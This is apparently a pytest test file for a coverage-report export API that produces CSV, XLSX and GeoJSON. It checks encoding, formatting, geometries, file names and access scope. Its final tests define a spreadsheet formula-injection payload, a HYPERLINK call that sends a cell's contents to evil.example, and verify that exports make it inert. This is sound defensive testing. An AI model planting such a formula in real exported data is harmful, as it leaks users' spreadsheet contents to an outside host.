"""Coverage exports (GET /coverage?f=csv|xlsx|geojson): the same rows as the JSON report, as a CSV in UTF-8
with a byte-order mark, an XLSX sheet (bold frozen header, widths, percentage formats) and GeoJSON features
with valid geometries; attachment file names; scope."""
from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import date, datetime, time, timedelta

import pytest
from openpyxl import load_workbook
from shapely.geometry import shape

from core.extensions import db
from outreach.visits.services import LOCAL, store_visits
from tests.helpers import auth, make_user, sql

API = "/api/v1"
COVERAGE = f"{API}/coverage"
CITY = "610900000000"
COLUMNS = ["code", "name", "households", "households_visited", "coverage", "band", "vulnerable",
           "vulnerable_visited", "vulnerable_coverage", "app_installed", "app_install_rate", "grids",
           "grids_visited", "visits", "flagged_visits"]
SHARES = {"coverage", "vulnerable_coverage", "app_install_rate"}
TEXT = {"code", "name", "band"}
BOM = b"\xef\xbb\xbf"
# (region, by) of every kind of grouping.
GROUPINGS = [(CITY, "county"), (CITY, "village"), ("610981000000", "township"), ("610981100000", "village"),
             ("610981100004", "grid")]


def today() -> date:
    return datetime.now(LOCAL).date()


@pytest.fixture
def visits(db_session):
    """Completed and other visits in a few villages (so the figures are not all zero), by the cells' chiefs."""
    rows = sql("""
        select h.id, h.grid_code, ST_X(h.location) as lon, ST_Y(h.location) as lat, a.member_id, m.county_code,
               row_number() over (partition by h.grid_code order by h.id) as n
        from households h
        join assignments a on a.grid_code = h.grid_code and a.role = 'chief' and a.valid_to is null
        join members m on m.id = a.member_id
        where h.grid_code in (select min(code) from grids where tier = 3 group by village_code)
          and h.removed_at is null
    """).all()
    start = datetime.combine(today() - timedelta(days=3), time(8), LOCAL)
    items, workers = [], []
    for index, row in enumerate(r for r in rows if r.n <= (r.id % 7) + 1):
        items.append({"id": str(uuid.uuid4()), "household_id": row.id, "grid_code": row.grid_code,
                      "outcome": ("completed", "completed", "nobody_home")[index % 3],
                      "visited_at": (start + timedelta(minutes=index)).isoformat(),
                      "app_installed": (True, None, False, None)[index % 4],
                      "location": {"lon": row.lon, "lat": row.lat, "crs": "wgs84",
                                   "accuracy_m": 500.0 if index % 5 == 0 else 10.0}})
        workers.append((row.member_id, row.county_code, f"chief{row.member_id}"))
    results = store_visits(items, workers, None, now=start + timedelta(days=1))
    assert all(r["status"] == "created" for r in results)
    return len(items)


def json_rows(client, query: str, headers=None) -> list[dict]:
    response = client.get(f"{COVERAGE}?{query}", headers=headers)
    assert response.status_code == 200, response.get_json()
    # The figures; a cell's responsible member (JSON only, for the lagging list) is not exported.
    return [{k: v for k, v in row.items() if k != "responsible"} for row in response.get_json()]


def period(query: str) -> tuple[str, str]:
    """The (from, to) the report uses for a query (defaults: the last 30 local days)."""
    params = dict(part.split("=") for part in query.split("&") if part)
    end = params.get("to", today().isoformat())
    start = params.get("from", (date.fromisoformat(end) - timedelta(days=29)).isoformat())
    return start, end


def attachment(response, region: str, by: str, query: str, extension: str) -> None:
    start, end = period(query)
    assert response.headers["Content-Disposition"] == \
        f'attachment; filename="coverage_{region}_{by}_{start}_{end}.{extension}"'


# --- CSV ---

def csv_value(column: str, value: str):
    if value == "":
        return None
    if column in TEXT:
        return value
    return float(value) if column in SHARES else int(value)


@pytest.mark.parametrize(("region", "by"), GROUPINGS)
def test_csv_has_a_bom_a_header_and_the_json_rows(client, visits, region, by):
    query = f"region={region}&by={by}"
    expected = json_rows(client, query)
    response = client.get(f"{COVERAGE}?{query}&f=csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params.get("charset") == "utf-8"
    attachment(response, region, by, query, "csv")
    assert response.data.startswith(BOM)
    assert not response.data[3:].startswith(BOM)
    records = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert records[0] == COLUMNS
    rows = [{column: csv_value(column, value) for column, value in zip(COLUMNS, record, strict=True)}
            for record in records[1:]]
    assert rows == expected
    assert any(row["households_visited"] for row in rows)


def test_csv_keeps_chinese_names(client, visits):
    response = client.get(f"{COVERAGE}?f=csv&sort=code")
    names = [record[1] for record in csv.reader(io.StringIO(response.data.decode("utf-8-sig")))][1:]
    assert names == list(sql("select name from regions where level = 'county' order by code").scalars())
    assert "汉阴县" in names and "安康高新技术产业开发区" in names
    assert "汉阴县".encode() in response.data  # UTF-8, not GBK or escapes


def test_csv_follows_the_period_and_the_sort(client, visits):
    start, end = today() - timedelta(days=5), today() - timedelta(days=1)
    query = f"by=village&from={start}&to={end}&sort=-visits"
    response = client.get(f"{COVERAGE}?{query}&f=csv")
    attachment(response, CITY, "village", query, "csv")
    records = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert [record[0] for record in records[1:]] == [row["code"] for row in json_rows(client, query)]
    visits_column = COLUMNS.index("visits")
    counts = [int(record[visits_column]) for record in records[1:]]
    assert counts == sorted(counts, reverse=True) and sum(counts) == visits


# --- XLSX ---

@pytest.mark.parametrize(("region", "by"), GROUPINGS)
def test_xlsx_opens_with_the_json_rows(client, visits, region, by):
    query = f"region={region}&by={by}"
    expected = json_rows(client, query)
    response = client.get(f"{COVERAGE}?{query}&f=xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    attachment(response, region, by, query, "xlsx")
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook.active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == COLUMNS
    rows = [dict(zip(COLUMNS, record, strict=True)) for record in values[1:]]
    assert rows == expected
    assert sheet.max_row == len(expected) + 1 and sheet.max_column == len(COLUMNS)


def test_xlsx_formatting(client, visits):
    expected = json_rows(client, "by=village")
    sheet = load_workbook(io.BytesIO(client.get(f"{COVERAGE}?by=village&f=xlsx").data)).active
    header = list(sheet[1])
    assert all(cell.font.bold for cell in header)
    assert sheet.freeze_panes == "A2"
    letters = {cell.value: cell.column_letter for cell in header}
    for column, letter in letters.items():
        width = sheet.column_dimensions[letter].width
        assert width and width >= len(column), column
    longest_name = max(len(row["name"]) for row in expected)
    assert sheet.column_dimensions[letters["name"]].width >= min(40, 2 * longest_name)  # CJK: two columns each
    for column in SHARES:
        cells = [row[0] for row in sheet.iter_rows(min_row=2, min_col=COLUMNS.index(column) + 1,
                                                   max_col=COLUMNS.index(column) + 1)]
        assert len(cells) == len(expected)
        assert all(cell.number_format == "0.0%" for cell in cells), column
    for column in ("households", "visits", "code", "name"):
        cell = sheet.cell(row=2, column=COLUMNS.index(column) + 1)
        assert cell.number_format != "0.0%"
    # Bands coloured.
    band_cells = [row[0] for row in sheet.iter_rows(min_row=2, min_col=COLUMNS.index("band") + 1,
                                                    max_col=COLUMNS.index("band") + 1)]
    assert all(cell.fill.fill_type == "solid" for cell in band_cells)


def test_xlsx_of_a_period_without_visits(client, visits):
    response = client.get(f"{COVERAGE}?region=610981100004&from=2020-01-01&to=2020-01-31&f=xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [cell.value for cell in sheet[1]] == COLUMNS
    assert all(row[COLUMNS.index("visits")] == 0 for row in sheet.iter_rows(min_row=2, values_only=True))


# --- GeoJSON ---

@pytest.mark.parametrize(("region", "by"), [*GROUPINGS, (CITY, "grid")])
def test_geojson_features_have_valid_geometries_and_the_json_rows(client, visits, region, by):
    query = f"region={region}&by={by}"
    expected = json_rows(client, query)
    response = client.get(f"{COVERAGE}?{query}&f=geojson")
    assert response.status_code == 200
    assert response.mimetype == "application/geo+json"
    body = json.loads(response.data.decode("utf-8"))
    assert body["type"] == "FeatureCollection"
    features = body["features"]
    assert [feature["properties"] for feature in features] == expected
    assert [feature["id"] for feature in features] == [row["code"] for row in expected]
    for feature in features:
        assert feature["type"] == "Feature"
        assert feature["geometry"] is not None, feature["id"]
        geometry = shape(feature["geometry"])
        assert geometry.geom_type in ("Polygon", "MultiPolygon")
        assert geometry.is_valid and not geometry.is_empty, feature["id"]
    # The features are the regions' (or cells') own boundaries.
    table = "grids" if by == "grid" else "regions"
    first = features[0]
    area = sql(f"select ST_Area(boundary) from {table} where code = :c", c=first["id"]).scalar()
    assert shape(first["geometry"]).area == pytest.approx(area, rel=1e-3)


def test_geojson_keeps_chinese_names(client, visits):
    response = client.get(f"{COVERAGE}?f=geojson")
    assert "汉阴县".encode() in response.data
    names = {f["properties"]["name"] for f in json.loads(response.data)["features"]}
    assert "汉阴县" in names


def test_geojson_is_an_attachment(client, visits):
    query = "region=610981100000&by=village"
    response = client.get(f"{COVERAGE}?{query}&f=geojson")
    assert response.status_code == 200
    attachment(response, "610981100000", "village", query, "geojson")


# --- scope ---

@pytest.mark.parametrize("f", ["csv", "xlsx", "geojson"])
def test_exports_respect_the_callers_scope(client, visits, f):
    make_user("hanyin_admin", "county_admin", "610921000000")
    headers = auth("hanyin_admin")
    assert client.get(f"{COVERAGE}?region=610902000000&f={f}", headers=headers).status_code == 404
    assert client.get(f"{COVERAGE}?region={CITY}&by=county&f={f}", headers=headers).status_code == 404
    response = client.get(f"{COVERAGE}?f={f}", headers=headers)
    assert response.status_code == 200
    townships = list(sql("select code from regions where level = 'township' and code like '610921%'").scalars())
    if f == "csv":
        codes = [record[0] for record in csv.reader(io.StringIO(response.data.decode("utf-8-sig")))][1:]
        attachment(response, "610921000000", "township", "", "csv")
    elif f == "xlsx":
        codes = [row[0] for row in load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=2,
                                                                                             values_only=True)]
        attachment(response, "610921000000", "township", "", "xlsx")
    else:
        codes = [feature["id"] for feature in json.loads(response.data)["features"]]
    assert codes == townships
    village_rows = client.get(f"{COVERAGE}?region=610921100000&by=grid&f={f}", headers=headers)
    assert village_rows.status_code == 200


@pytest.mark.parametrize("f", ["csv", "xlsx", "geojson"])
def test_exports_are_refused_to_grid_workers_and_anonymous_callers(client, anonymous_client, f):
    member = sql("select min(id) from members where village_code = '610921100001'").scalar()
    make_user("gw", "grid_worker", "610921100001", member)
    assert client.get(f"{COVERAGE}?f={f}", headers=auth("gw")).status_code == 403
    assert anonymous_client.get(f"{COVERAGE}?f={f}").status_code == 401


def test_an_unknown_format_is_rejected(client):
    assert client.get(f"{COVERAGE}?f=pdf").status_code == 422


FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"详情")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_made_inert(start):
    from core.exports import inert

    assert inert(start + "1+1") == "'" + start + "1+1"
    assert inert("张三") == "张三" and inert(-3) == -3 and inert(None) is None


def test_a_formula_in_a_cell_name_comes_out_inert_in_csv_and_xlsx(client):
    village = "610981100004"
    cell = sql("select min(code) from grids where tier = 3 and village_code = :v", v=village).scalar()
    sql("update grids set name = :n where code = :c", n=FORMULA, c=cell)
    db.session.commit()  # into the test's outer transaction, so every request sees it
    csv_body = client.get(f"{COVERAGE}?region={village}&by=grid&f=csv")
    assert csv_body.status_code == 200
    rows = list(csv.reader(io.StringIO(csv_body.get_data().decode("utf-8-sig"))))
    [named] = [row for row in rows if row[0] == cell]
    assert named[1] == "'" + FORMULA
    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row)
    xlsx_body = client.get(f"{COVERAGE}?region={village}&by=grid&f=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx_body.get_data())).active
    [named_row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == cell]
    assert named_row[1].value == "'" + FORMULA and named_row[1].data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
